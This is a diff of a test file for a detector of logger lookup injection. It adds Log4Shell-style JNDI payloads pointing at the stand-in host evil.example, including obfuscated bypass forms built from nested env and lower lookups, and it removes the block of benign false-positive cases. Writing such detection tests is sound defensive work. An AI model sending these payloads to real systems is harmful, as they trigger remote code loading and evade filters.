@@ -1,6 +1,6 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are those of template engines and loggers
 import { detectLookupInjection } from '../../../../../lambdas/request-guard/threats/lookup/lookup-injection';
-import { REFUSED, surestScore } from '../surest-detection';
+import { REFUSED, surestScore } from '../support/surest-detection';
 
 describe('lookups of loggers', () => {
   it.each([
@@ -18,34 +18,17 @@ describe('lookups of loggers', () => {
     '${sys:java.version}',
     '${java:os}',
     'Mozilla/5.0 ${jndi:ldap://evil.example/x} test',
+    '${jndi:rmi://evil.example:1099/x}',
+    '${jndi:ldaps://evil.example/x}',
+    '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}',
+    '${${lower:${lower:jndi}}:${lower:rmi}://evil.example/x}',
+    '${${::-${::-$${::-j}}}}',
+    '${j${}ndi:ldap://evil.example}',
+    '${jndi:ldap://127.0.0.1#evil.example/a}',
+    '${sys:os.name}',
+    '${main:x}',
   ])('is seen in %j', (text) => {
     expect(surestScore(detectLookupInjection, text)).toBeGreaterThanOrEqual(REFUSED);
-  });
-
-  it.each([
-    '${HOME}/bin',
-    '${var.region}-bucket',
-    '${{ secrets.GITHUB_TOKEN }}',
-    '${{ github.event.pull_request.number }}',
-    '`Hello ${name}`',
-    'Total: ${amount} due on ${date}',
-    '$(document).ready(init)',
-    '$x^{2} + y^{2} = z^{2}$',
-    'mutation Add($id: ID!) { add(id: $id) { id } }',
-    '^[a-z]+(?:\\.[a-z]+)*$',
-    '^(?=.*[A-Z])(?=.*\\d).{8,}$',
-    '/^\\d{3}-\\d{4}$/',
-    '<div th:text="${user.name}">x</div>',
-    '{ "$ref": "#/components/schemas/User" }',
-    'apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - name: x\n    image: {{ .Values.image }}\n    args: ["--x=$(FOO)"]',
-    'on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n    - run: echo ${{ secrets.X }} && npm ci',
-    '${env:STAGE}',
-    '${DB_HOST:-localhost}',
-    '${A:-${B:-c}}',
-    '${self:custom.stage}',
-    '${file(./a.yml):b}',
-  ])('is not seen in %j', (text) => {
-    expect(surestScore(detectLookupInjection, text, { place: 'json' })).toBeLessThan(REFUSED);
   });
 
   it('is seen wherever in a text it stands, since loggers resolve it there', () => {
